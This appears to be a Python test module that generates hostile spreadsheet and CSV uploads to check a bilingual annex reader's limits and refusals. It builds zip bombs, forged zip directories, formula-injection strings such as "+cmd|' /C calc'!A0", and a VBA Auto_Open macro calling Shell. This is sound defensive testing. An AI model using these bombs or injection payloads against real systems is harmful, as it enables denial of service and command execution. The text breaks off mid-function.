"""A corpus of hostile files, made by code: what an upload form meets besides real annexes.

Each maker returns a :class:`Case`: the file's name and bytes, and what must happen to it:
``Refused(vi, en)`` (a :class:`FileRefused` whose messages match the two regexes) or
``Read(vi, en, names)`` (a parsed file; some issue matches the regexes, and the units read
are ``names``, when given).
``CASES`` lists the makers by name; ``HEAVY`` names those measured for time and memory in a
subprocess. Big files are built without holding what they inflate to: the 1 GB zip bomb is
1,024 copies of one deflated megabyte of zeros, joined as one deflate stream.
"""
from __future__ import annotations

import codecs
import functools
import io
import random
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl

from tests.helpers import par_annex

MIB = 1024 * 1024
REALDATA = Path(__file__).resolve().parent / "realdata"


@dataclass(frozen=True)
class Refused:
    """The file must be refused; its Vietnamese and English messages match these regexes."""

    vi: str
    en: str


@dataclass(frozen=True)
class Read:
    """The file must be read; when given, some issue's messages match these regexes, and
    the units read are exactly ``names`` (as stored: NFC, no script text, nothing evaluated)."""

    vi: str | None = None
    en: str | None = None
    names: tuple[str, ...] | None = None


@dataclass(frozen=True)
class Case:
    file_name: str
    data: bytes
    expect: Refused | Read


CASES: dict[str, Callable[[], Case]] = {}
HEAVY = ("zip_bomb", "zip_bomb_ratio", "zip_lying_directory", "million_rows_csv", "xls_dimensions_lie",
         "columns_20000_csv", "columns_16384_xlsx", "huge_cell_csv", "huge_cell_xlsx",
         "corner_cell", "unnumbered_cells")
"""Cases whose time and peak memory are measured in a fresh process."""


def case(maker: Callable[[], Case]) -> Callable[[], Case]:
    """Register ``maker`` under its name; its file is built once per process."""
    cached = functools.cache(maker)
    CASES[maker.__name__] = cached
    return cached


def over(vi: str, en: str, limit_vi: str, limit_en: str) -> Refused:
    """A refusal naming what is over and its value (``vi``, ``en``), then the limit."""
    return Refused(rf"{vi}, quá giới hạn {limit_vi}", rf"{en}, over the limit of {limit_en}")


# ---------------------------------------------------------------------------- building blocks


def xlsx(sheets: dict[str, list[list[object]]], merges: dict[str, list[str]] | None = None,
         hidden: tuple[str, ...] = ()) -> bytes:
    """An .xlsx written by openpyxl, in memory."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
        for cell_range in (merges or {}).get(name, []):
            sheet.merge_cells(cell_range)
        if name in hidden:
            sheet.sheet_state = "hidden"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def par_xlsx(year: int = 2024, changes: dict[tuple[int, int], object] | None = None,
             extra_rows: list[list[object]] | None = None) -> bytes:
    """The small PAR annex of tests.helpers, with cells replaced and rows added."""
    rows, merges = par_annex(year)
    for (r, c), value in (changes or {}).items():
        rows[r][c] = value
    rows[14:14] = extra_rows or []
    return xlsx({f"Năm {year}": rows}, {f"Năm {year}": merges})


CSV_TEXT = "STT;Tên đơn vị;Tổng điểm\n1;Phường Hàng Bạc;91,43\n2;Phường Hàng Đào;88,5\n"

_PARTS = {
    "[Content_Types].xml":
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
        'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
        'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels":
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
        '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/'
        'workbook.xml"/></Relationships>',
    "xl/workbook.xml":
        '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships"><sheets><sheet name="PAR 2024" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels":
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
        '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/'
        'sheet1.xml"/></Relationships>',
}


def sheet_xml(sheet_data: str, tail: str = "") -> str:
    """A worksheet part with ``sheet_data`` (rows and cells as written) and what follows it."""
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://'
            'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            f"{sheet_data}</sheetData>{tail}</worksheet>")


def raw_xlsx(sheet: str, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal .xlsx whose one sheet is the XML ``sheet``, plus ``extra`` parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in _PARTS.items():
            archive.writestr(name, text)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, payload in (extra or {}).items():
            archive.writestr(name, payload)
    return buffer.getvalue()


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


@dataclass(frozen=True)
class Member:
    """One part of a zip written byte by byte, so its directory can say anything."""

    name: str
    payload: bytes  # as stored in the file (deflated unless method is 0)
    crc: int
    size: int  # the inflated size the directory declares
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0


def member(name: str, content: bytes, **changes) -> Member:
    """A truthful member holding ``content`` deflated; ``changes`` forge its fields."""
    compressor = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    payload = compressor.compress(content) + compressor.flush()
    fields = {"payload": payload, "crc": zlib.crc32(content), "size": len(content), **changes}
    return Member(name, **fields)


def raw_zip(members: list[Member]) -> bytes:
    """A zip of ``members`` written by hand: local headers, data, central directory, end."""
    out = io.BytesIO()
    directory = io.BytesIO()
    for part in members:
        name = part.name.encode()
        offset = out.tell()
        out.write(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, part.flags, part.method, 0, 0x21,
                              part.crc, len(part.payload), part.size, len(name), 0))
        out.write(name + part.payload)
        directory.write(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, part.flags, part.method,
                                    0, 0x21, part.crc, len(part.payload), part.size, len(name),
                                    0, 0, 0, 0, 0, offset))
        directory.write(name)
    start = out.tell()
    out.write(directory.getvalue())
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(members), len(members),
                          len(directory.getvalue()), start, 0))
    return out.getvalue()


def skeleton(sheet: bytes | None = None) -> list[Member]:
    """The truthful members of a minimal workbook (with its sheet unless ``sheet`` is None)."""
    parts = [member(name, text.encode()) for name, text in _PARTS.items()]
    if sheet is not None:
        parts.append(member("xl/worksheets/sheet1.xml", sheet))
    return parts


@functools.cache
def zeros_deflated(megabytes: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``megabytes`` MB of zeros and its CRC-32, built from one
    deflated megabyte repeated: a flushed block of a fresh compressor refers only to itself,
    so copies join into one valid stream. Never holds more than 1 MB inflated."""
    block = bytes(MIB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()  # an empty final block
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    return piece * megabytes + end, crc


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors) holding ``streams``, each
    padded to 4,096 bytes so it lives in ordinary sectors (no mini stream)."""
    free, end, fat_sector = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    fat = [fat_sector, end]  # sector 0: this FAT, sector 1: the directory
    body = b""
    entries = [_cfb_entry("Root Entry", 5, child=1, start=end, size=0)]
    for number, (name, content) in enumerate(streams.items(), start=1):
        content = content.ljust(max(4096, -(-len(content) // 512) * 512), b"\0")
        start = len(fat)
        sectors = len(content) // 512
        fat += [start + i + 1 for i in range(sectors - 1)] + [end]
        right = number + 1 if number < len(streams) else free
        entries.append(_cfb_entry(name, 2, right=right, start=start, size=len(content)))
        body += content
    directory = b"".join(entries).ljust(512, b"\0")
    header = struct.pack("<8s16s6H10I", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16), 0x3E, 3,
                         0xFFFE, 9, 6, 0, 0, 1, 1, 0, 4096, end, 0, end, 0, 0)
    header = header[:76] + struct.pack("<109I", 0, *([free] * 108))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    return header + fat_bytes + directory + body


def _cfb_entry(name: str, kind: int, *, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF,
               start: int, size: int) -> bytes:
    encoded = name.encode("utf-16-le") + b"\0\0"
    return struct.pack("<64sHBB3I16sI16sIQ", encoded, len(encoded), kind, 1, 0xFFFFFFFF, right,
                       child, bytes(16), 0, bytes(16), start, size)


# ------------------------------------------------------------------------------ the corpus
# Containers and formats


@case
def empty() -> Case:
    return Case("rong.xlsx", b"", Refused(r"'rong\.xlsx' rỗng", r"'rong\.xlsx' is empty"))


@case
def text_named_xlsx() -> Case:
    text = "Kính gửi các phòng ban,\nđề nghị gửi báo cáo trước ngày 15.\n".encode()
    return Case("bao_cao.xlsx", text, Refused(r"bao_cao\.xlsx", r"bao_cao\.xlsx"))


@case
def truncated_zip() -> Case:
    data = par_xlsx()
    return Case("PAR_2024_cut.xlsx", data[: len(data) // 2],
                Refused(r"Không đọc được tệp 'PAR_2024_cut\.xlsx'.*Chấp nhận: \.xlsx",
                        r"Cannot read file 'PAR_2024_cut\.xlsx'.*Accepted: \.xlsx"))


@case
def zip_bomb() -> Case:
    """A sheet part that inflates to 1 GB of zeros (1 MB on disk): refused from the directory."""
    stream, crc = zeros_deflated(1024)
    bomb = Member("xl/worksheets/sheet1.xml", stream, crc, 1024 * MIB)
    return Case("PAR_2024_bomb.xlsx", raw_zip([*skeleton(), bomb]),
                over("thành phần 'xl/worksheets/sheet1.xml' bung ra 1024 MB",
                     "part 'xl/worksheets/sheet1.xml' inflates to 1024 MB", "300 MB", "300 MB"))


@case
def zip_bomb_ratio() -> Case:
    """200 MB of zeros: under the size of one part, but inflating 1,000 times its size."""
    stream, crc = zeros_deflated(200)
    bomb = Member("xl/worksheets/sheet1.xml", stream, crc, 200 * MIB)
    return Case("PAR_2024_ratio.xlsx", raw_zip([*skeleton(), bomb]),
                over(r"bung ra gấp 10\d\d lần cỡ nén", r"inflates to 10\d\d times its zipped size",
                     "100 lần", "100 times"))


@case
def zip_lying_directory() -> Case:
    """The directory says 1,000 bytes, with the CRC of the first 1,000: zipfile would stop
    there content; the stream holds 1 GB."""
    stream, _ = zeros_deflated(1024)
    liar = Member("xl/worksheets/sheet1.xml", stream, zlib.crc32(bytes(1000)), 1000)
    return Case("PAR_2024_liar.xlsx", raw_zip([*skeleton(), liar]),
                Refused(r"ghi cỡ 1000 byte nhưng bung ra \d+ byte",
                        r"declares 1000 bytes but inflates to \d+ bytes"))


@case
def zip_directory_too_small() -> Case:
    """The directory claims more than the stream holds."""
    sheet = sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + "</row>").encode()
    parts = skeleton()
    parts.append(member("xl/worksheets/sheet1.xml", sheet, size=len(sheet) + 5000))
    return Case("PAR_2024_short.xlsx", raw_zip(parts),
                Refused(rf"ghi cỡ {len(sheet) + 5000} byte nhưng bung ra {len(sheet)} byte",
                        rf"declares {len(sheet) + 5000} bytes but inflates to {len(sheet)} bytes"))


@case
def zip_declared_total() -> Case:
    """Three parts declaring 150 MB each (ratio under 100): over the total from the directory."""
    noise = random.Random(3).randbytes(2 * MIB)
    parts = [*skeleton(), *(Member(f"xl/worksheets/sheet{i}.xml", noise, 0, 150 * MIB) for i in (1, 2, 3))]
    return Case("PAR_2024_total.xlsx", raw_zip(parts),
                over("bung ra tổng cộng 451 MB", "inflates to 451 MB in all", "400 MB", "400 MB"))


@case
def zip_many_members() -> Case:
    parts = [*skeleton(b"<worksheet/>"), *(member(f"customXml/item{i}.xml", b"<a/>") for i in range(2500))]
    return Case("PAR_2024_parts.xlsx", raw_zip(parts),
                over("chứa 2505 thành phần nén", "holds 2505 zipped parts", "2000", "2000"))


@case
def nested_zip_by_name() -> Case:
    inner = par_xlsx()
    data = raw_xlsx(sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + "</row>"),
                    {"xl/embeddings/Microsoft_Excel_Worksheet1.xlsx": inner})
    return Case("PAR_2024_nested.xlsx", data,
                Refused(r"chứa một tệp nén khác.*Microsoft_Excel_Worksheet1\.xlsx",
                        r"holds another zipped file.*Microsoft_Excel_Worksheet1\.xlsx"))


@case
def nested_zip_by_content() -> Case:
    inner = raw_zip(skeleton(b"<worksheet/>"))
    data = raw_xlsx(sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + "</row>"),
                    {"xl/media/image1.png": inner})
    return Case("PAR_2024_inner.xlsx", data,
                Refused(r"chứa một tệp nén khác.*image1\.png", r"holds another zipped file.*image1\.png"))


@case
def encrypted_zip_members() -> Case:
    """Members flagged as encrypted (zip's own password scheme)."""
    parts = [Member(p.name, p.payload, p.crc, p.size, flags=1) for p in skeleton(b"<worksheet/>")]
    return Case("PAR_2024_khoa.xlsx", raw_zip(parts),
                Refused(r"'PAR_2024_khoa\.xlsx' được đặt mật khẩu", r"'PAR_2024_khoa\.xlsx' is password-protected"))


@case
def encrypted_office() -> Case:
    """What Excel writes for a password-protected .xlsx: an OLE2 file with EncryptedPackage."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<?xml version=\"1.0\"?><encryption/>"
    data = cfb({"EncryptionInfo": info, "EncryptedPackage": random.Random(1).randbytes(4096)})
    return Case("PAR_2024_matkhau.xlsx", data,
                Refused(r"'PAR_2024_matkhau\.xlsx' được đặt mật khẩu", r"password-protected"))


@case
def unknown_compression() -> Case:
    parts = skeleton()
    sheet = sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + "</row>").encode()
    parts.append(Member("xl/worksheets/sheet1.xml", sheet, zlib.crc32(sheet), len(sheet), method=12))
    return Case("PAR_2024_bzip2.xlsx", raw_zip(parts),
                Refused(r"kiểu 12.*deflate", r"method 12.*deflate"))


@case
def word_document_named_xlsx() -> Case:
    """A zip that is no workbook (a .docx renamed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("[Content_Types].xml", "<Types/>")
    return Case("PAR_2024_word.xlsx", buffer.getvalue(),
                Refused(r"Không đọc được tệp 'PAR_2024_word\.xlsx'", r"Cannot read file 'PAR_2024_word\.xlsx'"))


@case
def binary_workbook() -> Case:
    """An .xlsb (binary records) renamed .xlsx: not a format the limits can look into."""
    parts = [member("[Content_Types].xml", b"<Types/>"), member("xl/workbook.bin", bytes(64)),
             member("xl/worksheets/sheet1.bin", b"\x00\x01" * 32)]
    return Case("PAR_2024_nhiphan.xlsx", raw_zip(parts),
                Refused(r"'PAR_2024_nhiphan\.xlsx' là sổ làm việc nhị phân \(\.xlsb\).*Chấp nhận: \.xlsx",
                        r"'PAR_2024_nhiphan\.xlsx' is a binary workbook \(\.xlsb\).*Accepted: \.xlsx"))


@case
def png_image() -> Case:
    header = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 1, 1, 8, 2, 0, 0, 0)
    data = header + struct.pack(">I", zlib.crc32(header[12:])) + zlib.compress(bytes(64)) + b"IEND\xaeB`\x82"
    return Case("PAR_2024.png.xlsx", data, Refused(r"PAR_2024\.png\.xlsx", r"PAR_2024\.png\.xlsx"))


@case
def damaged_xls() -> Case:
    data = (REALDATA / "PCI_2009.xls").read_bytes()
    return Case("PCI_2009_hong.xls", data[:40000],
                Refused(r"Không đọc được tệp 'PCI_2009_hong\.xls'", r"Cannot read file 'PCI_2009_hong\.xls'"))


def patch_xls(signature: bytes, occurrence: int, offset: int, fmt: str, *values: int) -> bytes:
    """PCI_2009.xls with the ``occurrence``-th record starting with ``signature`` (type and
    length, as stored) changed at ``offset`` bytes into it: what a damaged disk or a forger does."""
    data = bytearray((REALDATA / "PCI_2009.xls").read_bytes())
    at = -1
    for _ in range(occurrence + 1):
        at = data.index(signature, at + 1)
    struct.pack_into(fmt, data, at + offset, *values)
    return bytes(data)


@case
def xls_far_cell() -> Case:
    """One NUMBER record's column set to 28,688 (BIFF8 has 256): calamine asked for 29 GB."""
    data = patch_xls(b"\x03\x02\x0e\x00", 500, 6, "<H", 0x7010)
    return Case("PCI_2009_xa.xls", data, Refused(r"có 28689 cột, quá giới hạn 1000 cột", r"28689 columns, over the limit"))


@case
def xls_dimensions_lie() -> Case:
    """A DIMENSIONS record claiming 4 billion rows: calamine reserves that much and aborts."""
    data = patch_xls(b"\x00\x02\x0e\x00", 1, 4, "<IIHH", 0, 4_000_000_000, 0, 65000)
    return Case("PCI_2009_kichthuoc.xls", data, Refused(r"có 4000000000 dòng", r"4000000000 rows"))


# Shapes


@case
def only_headers() -> Case:
    rows, merges = par_annex(2024)
    return Case("PAR_2024_tieude.xlsx", xlsx({"Năm 2024": rows[:7]}, {"Năm 2024": merges}),
                Refused(r"PAR_2024_tieude\.xlsx", r"PAR_2024_tieude\.xlsx"))


@case
def million_rows_csv() -> Case:
    lines = ["STT;Tên đơn vị;Tổng điểm"] + [f"{i};Xã số {i};{i % 100},5" for i in range(1, 1_000_001)]
    return Case("PAR_2024_trieu_dong.csv", ("\n".join(lines) + "\n").encode(),
                over("có 1000001 dòng", "1000001 rows", "200000 dòng", "200000 rows"))


@case
def columns_20000_csv() -> Case:
    header = ";".join(["STT", "Tên đơn vị"] + [f"Tiêu chí {i}" for i in range(20_000)])
    row = ";".join(["1", "Phường Hàng Bạc"] + ["5"] * 20_000)
    return Case("PAR_2024_rong.csv", f"{header}\n{row}\n".encode(),
                over("có 20002 cột", "20002 columns", "1000 cột", "1000 columns"))


@case
def columns_16384_xlsx() -> Case:
    """Excel's widest: every column of row 1 filled."""
    cells = "".join(f'<c r="{_letters(c)}1"><v>{c}</v></c>' for c in range(1, 16385))
    return Case("PAR_2024_16384.xlsx", raw_xlsx(sheet_xml(f'<row r="1">{cells}</row>')),
                over("có 16384 cột", "16384 columns", "1000 cột", "1000 columns"))


def _letters(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


@case
def corner_cell() -> Case:
    """Two cells, A1 and XFD1048576: 1 KB that would make calamine allocate 17 billion cells."""
    sheet = sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + '</row><row r="1048576">'
                      '<c r="XFD1048576"><v>1</v></c></row>')
    return Case("PAR_2024_goc.xlsx", raw_xlsx(sheet),
                Refused(r"trang 'PAR 2024': có 1048576 dòng, quá giới hạn 200000 dòng",
                        r"sheet 'PAR 2024': 1048576 rows, over the limit of 200000 rows"))


@case
def sparse_area() -> Case:
    """A1 and ZZ99999: under both row and column limits, 70 million cells between them."""
    sheet = sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + '</row><row r="99999">'
                      '<c r="ZZ99999"><v>1</v></c></row>')
    return Case("PAR_2024_thua.xlsx", raw_xlsx(sheet),
                over("99999 dòng × 702 cột = 70199298 ô", "99999 rows × 702 columns = 70199298 cells",
                     "6000000 ô", "6000000 cells"))


@case
def unnumbered_cells() -> Case:
    """Cells without references (calamine counts them along the row) and a far row."""
    sheet = sheet_xml('<row r="1">' + "<c><v>1</v></c>" * 3000 + '</row><row r="150000"><c><v>2</v></c></row>')
    return Case("PAR_2024_khongso.xlsx", raw_xlsx(sheet), Refused(r"3000 cột", r"3000 columns"))


@case
def lowercase_references() -> Case:
    sheet = sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + '<c r="xfd1"><v>1</v></c></row>')
    return Case("PAR_2024_thuong.xlsx", raw_xlsx(sheet), Refused(r"16384 cột", r"16384 columns"))


def patch_sheets(data: bytes, old: bytes, new: bytes) -> bytes:
    """``data`` (an .xlsx) with ``old`` replaced by ``new`` in its sheet parts: for what
    openpyxl will not write (it would build every cell of a huge merge)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            payload = source.read(info)
            if info.filename.startswith("xl/worksheets/sheet"):
                assert old in payload, (old, payload[:300])
                payload = payload.replace(old, new)
            out.writestr(info, payload)
    return buffer.getvalue()


@case
def dimension_lie() -> Case:
    """A <dimension> claiming all of Excel over a small real annex: only cells count."""
    data = patch_sheets(par_xlsx(), b'<dimension ref="A1:J18"/>', b'<dimension ref="A1:XFD1048576"/>')
    return Case("PAR_2024_dimension.xlsx", data, Read())


@case
def too_many_merges() -> Case:
    merges = "".join(f'<mergeCell ref="A{2 * i + 1}:B{2 * i + 1}"/>' for i in range(300_001))
    sheet = sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + "</row>",
                      f'<mergeCells count="300001">{merges}</mergeCells>')
    return Case("PAR_2024_gop.xlsx", raw_xlsx(sheet),
                over("có 300001 vùng ô gộp", "300001 merged ranges", "300000", "300000"))


@case
def overlapping_merges() -> Case:
    """3,000 identical merges over a 3,000 × 2 table: 18 million merged cells in all."""
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>{r}</v></c></row>'
                   for r in range(1, 3001))
    merges = '<mergeCell ref="A1:B3000"/>' * 3000
    sheet = sheet_xml(rows, f'<mergeCells count="3000">{merges}</mergeCells>')
    return Case("PAR_2024_chong.xlsx", raw_xlsx(sheet),
                over("phủ tổng cộng 18000000 ô", "cover 18000000 cells in all", "6000000 ô", "6000000 cells"))


@case
def merged_cell_chaos() -> Case:
    """Merges reversed, outside the table, over the data, overlapping, and one over the
    rest of Excel (A20:XFD1048576): still an annex to read."""
    rows, merges = par_annex(2024)
    data = xlsx({"Năm 2024": rows}, {"Năm 2024": [*merges, "C9:D10", "B12:C13", "H1:J3", "K30:L40"]})
    chaos = b'<mergeCell ref="A20:XFD1048576"/><mergeCell ref="E9:C8"/></mergeCells>'
    return Case("PAR_2024_honloan.xlsx", patch_sheets(data, b"</mergeCells>", chaos), Read())


@case
def many_sheets() -> Case:
    sheets = {f"Trang {i}": [["x", i]] for i in range(150)}
    rows, merges = par_annex(2024)
    sheets["Năm 2024"] = rows
    return Case("PAR_2024_nhieutrang.xlsx", xlsx(sheets, {"Năm 2024": merges}), Read())


@case
def hidden_sheet() -> Case:
    rows, merges = par_annex(2024)
    old, old_merges = par_annex(2023)
    data = xlsx({"Năm 2024": rows, "Nháp 2023": old}, {"Năm 2024": merges, "Nháp 2023": old_merges},
                hidden=("Nháp 2023",))
    return Case("PAR_2024_an.xlsx", data,
                Read(r"Trang 'Nháp 2023' đang bị ẩn trong Excel", r"Sheet 'Nháp 2023' is hidden in Excel"))


@case
def macro_workbook() -> Case:
    """An .xlsm with a vbaProject.bin: macros are never run, the cells are read."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(par_xlsx()), "r") as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            out.writestr(info, source.read(info))
        out.writestr("xl/vbaProject.bin", cfb({"VBA": b"Attribute VB_Name = \"Module1\"\nSub Auto_Open()\nShell \"calc\"\nEnd Sub"}))
    return Case("PAR_2024_macro.xlsm", buffer.getvalue(), Read())


# Cells


@case
def error_cells() -> Case:
    data = par_xlsx(changes={(8, 2): "#REF!", (11, 4): "#DIV/0!"})
    return Case("PAR_2024_loi.xlsx", data, Read(r"Năm 2024!C9 có giá trị '#REF!' lỗi công thức",
                                                 r"Năm 2024!C9 holds '#REF!', a formula error"))


@case
def numbers_as_text() -> Case:
    data = par_xlsx(changes={(8, 2): "5,50", (8, 3): "3.5", (11, 2): " 6 ", (11, 3): "4,0",
                             (12, 2): "4\u00a0", (12, 3): "9l,5", (13, 2): "1.234,5"})
    return Case("PAR_2024_chuso.xlsx", data, Read(r"Năm 2024!D13 có giá trị '9l,5' không phải số",
                                                   r"Năm 2024!D13 holds '9l,5', not a number"))


@case
def negative_and_over_maximum() -> Case:
    data = par_xlsx(changes={(8, 2): -3, (11, 3): 99})
    return Case("PAR_2024_amvuot.xlsx", data, Read(r"Năm 2024!C9 có giá trị âm \(-3,00\)",
                                                    r"Năm 2024!C9 is negative \(-3.00\)"))


@case
def duplicate_units() -> Case:
    data = par_xlsx(extra_rows=[[4, "Phường Hàng Bạc", 6, 4, 5, 4, 19, 95, 1, "A"]])
    return Case("PAR_2024_trung.xlsx", data, Read(r"'P\. Hàng Bạc' xuất hiện nhiều lần \(B12, B15\)",
                                                   r"'P\. Hàng Bạc' appears more than once \(B12, B15\)"))


@case
def unknown_units() -> Case:
    data = par_xlsx(extra_rows=[[4, "Phường Không Tồn Tại", 5, 3, 4, 4, 16, 80, 2, "A"],
                                [5, "Đơn vị ???", 5, 3, 4, 4, 16, 80, 2, "A"]])
    return Case("PAR_2024_la.xlsx", data, Read(r"'Phường Không Tồn Tại' chưa có trong danh mục",
                                                r"'Phường Không Tồn Tại' is not in the registry"))


@case
def nfd_unit_names() -> Case:
    nfd = {(r, 1): unicodedata.normalize("NFD", name) for r, name in
           [(8, "Phòng Nội vụ"), (11, "P. Hàng Bạc"), (12, "Phường Hàng Đào")]}
    return Case("PAR_2024_nfd.xlsx", par_xlsx(changes=nfd),
                Read(names=("Phòng Nội vụ", "Phòng Tư pháp", "P. Hàng Bạc", "Phường Hàng Đào", "HÀNG BỒ")))


@case
def formula_injection() -> Case:
    names = {(8, 1): '=HYPERLINK("http://x.invalid","Phòng Nội vụ")', (9, 1): "+cmd|' /C calc'!A0",
             (11, 1): "-2+3+cmd|' /C calc'!A0", (12, 1): "@SUM(1+1)*cmd|' /C calc'!A0"}
    # openpyxl writes the "=" one as a formula (no cached value): its row has no unit name.
    return Case("PAR_2024_congthuc.xlsx", par_xlsx(changes=names),
                Read(r"Dòng 9 có số liệu nhưng không có tên đơn vị", r"Row 9 has numbers but no unit name",
                     names=tuple(names[k] for k in [(9, 1), (11, 1), (12, 1)]) + ("HÀNG BỒ",)))


@case
def huge_cell_csv() -> Case:
    text = "STT;Tên đơn vị;Tổng điểm\n1;" + "Hàng Bạc " * 580_000 + ";91,43\n"
    return Case("PAR_2024_odai.csv", text.encode(),
                Refused(r"dòng 2: một ô dài hơn 32767 ký tự", r"line 2: a cell is longer than 32767 characters"))


@case
def huge_cell_xlsx() -> Case:
    text = random.Random(5).randbytes(5 * MIB).translate(_LETTERS).decode()  # compresses ~1.6×
    sheet = sheet_xml('<row r="1">' + inline("A1", "PAR 2024") + '</row><row r="2">'
                      + inline("B2", text) + "</row>")
    return Case("PAR_2024_odai.xlsx", raw_xlsx(sheet),
                over("ô PAR 2024!B2: dài 5242880 ký tự", "cell PAR 2024!B2: 5242880 characters",
                     "32767", "32767"))


_LETTERS = bytes(97 + i % 26 for i in range(256))


@case
def cell_one_over_csv() -> Case:
    """One character over Excel's limit: past csv's own check, caught by the cell check."""
    text = f"STT;Tên đơn vị;Tổng điểm\n1;{'a' * 32_768};91,43\n"
    return Case("PAR_2024_32768.csv", text.encode(),
                Refused(r"ô PAR_2024_32768!B2: dài 32768 ký tự, quá giới hạn 32767",
                        r"cell PAR_2024_32768!B2: 32768 characters, over the limit of 32767"))


@case
def unterminated_quote_csv() -> Case:
    rows = "".join(f"{i};Xã số {i};{i % 100},5\n" for i in range(3, 5000))
    text = 'STT;Tên đơn vị;Tổng điểm\n1;"Phường Hàng Bạc;91,43\n' + rows
    return Case("PAR_2024_ngoackep.csv", text.encode(),
                Refused(r"dòng \d+: một ô dài hơn 32767", r"line \d+: a cell is longer than 32767"))


@case
def nul_bytes_csv() -> Case:
    return Case("PAR_2024_nul.csv", CSV_TEXT.encode().replace(b"91,43", b"91\x00,43"),
                Refused(r"PAR_2024_nul\.csv", r"PAR_2024_nul\.csv"))


@case
def nul_in_xml() -> Case:
    sheet = sheet_xml('<row r="1">' + inline("A1", "PAR\x002024") + "</row>")
    return Case("PAR_2024_nulxml.xlsx", raw_xlsx(sheet),
                Refused(r"PAR_2024_nulxml\.xlsx", r"PAR_2024_nulxml\.xlsx"))


@case
def quote_storm_csv() -> Case:
    """Quotes and separators that make csv.Sniffer's regexes backtrack (15 s on 20,000 of them)."""
    text = '";' * 10_000 + "\n" + "'" * 5000 + "\n"
    return Case("PAR_2024_ngoac.csv", text.encode(), over("có 5001 cột", "5001 columns", "1000 cột", "1000 columns"))


# Encodings and separators (real ways Excel saves CSV: all must be read)


def _units_csv(separator: str = ";", decimal: str = ",") -> str:
    return (f"KẾT QUẢ CHỈ SỐ CẢI CÁCH HÀNH CHÍNH NĂM 2024\nSTT{separator}Tên đơn vị{separator}"
            f"Tổng điểm\n1{separator}Phường Hàng Bạc{separator}91{decimal}43\n2{separator}"
            f"Phường Hàng Đào{separator}88{decimal}5\n3{separator}Phường Hàng Bồ{separator}80{decimal}0\n")


@case
def bom_utf8_csv() -> Case:
    return Case("PAR_2024_bom.csv", codecs.BOM_UTF8 + _units_csv(",", ".").encode(), Read())


@case
def utf16_csv() -> Case:
